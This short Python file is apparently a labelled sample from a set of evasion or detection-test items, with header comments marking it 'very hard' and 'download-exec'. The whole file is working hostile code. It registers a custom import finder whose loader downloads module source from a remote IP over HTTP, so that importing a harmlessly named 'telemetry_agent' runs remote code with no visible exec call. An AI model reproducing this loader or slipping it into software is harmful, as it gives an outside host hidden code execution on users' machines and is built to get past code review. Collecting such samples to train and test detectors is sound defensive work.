# evasion: a sys.meta_path finder whose SourceLoader fetches module source over HTTP; importing runs it with no exec in sight
# grade: very hard; does: download-exec
import importlib.abc
import importlib.util
import sys
import urllib.request

BASE = "http://203.0.113.7/pkgs/"


class RemoteLoader(importlib.abc.SourceLoader):
    def __init__(self, name):
        self.name = name

    def get_filename(self, fullname):
        return BASE + fullname + ".py"

    def get_data(self, path):
        with urllib.request.urlopen(path, timeout=10) as r:
            return r.read()


class RemoteFinder(importlib.abc.MetaPathFinder):
    def find_spec(self, fullname, path, target=None):
        if fullname != "telemetry_agent":
            return None
        return importlib.util.spec_from_loader(fullname, RemoteLoader(fullname))


sys.meta_path.append(RemoteFinder())

import telemetry_agent  # noqa: E402,F401

telemetry_agent.start()
